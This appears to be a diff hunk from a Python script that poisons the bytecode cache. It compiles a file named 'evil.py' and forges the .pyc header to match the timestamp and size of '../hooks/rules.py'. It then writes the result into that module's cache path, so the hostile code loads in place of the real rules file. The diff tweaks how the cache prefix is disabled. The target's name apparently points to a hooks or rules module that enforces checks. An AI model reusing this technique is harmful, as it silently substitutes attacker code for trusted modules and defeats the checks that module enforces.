@@ -209,7 +209,7 @@ end = py_compile.compile("evil.py", cfile="evil.pyc")
 data = bytearray(open("evil.pyc", "rb").read())
 known = os.stat("../hooks/rules.py")
 data[8:16] = struct.pack("<II", int(known.st_mtime), known.st_size)
-os.environ.pop("PYTHONPYCACHEPREFIX"); import sys; sys.pycache_prefix = None
+import sys; sys.pycache_prefix = None
 target = u.cache_from_source("../hooks/rules.py")
 os.makedirs(os.path.dirname(target), exist_ok=True)
 open(target, "wb").write(data)
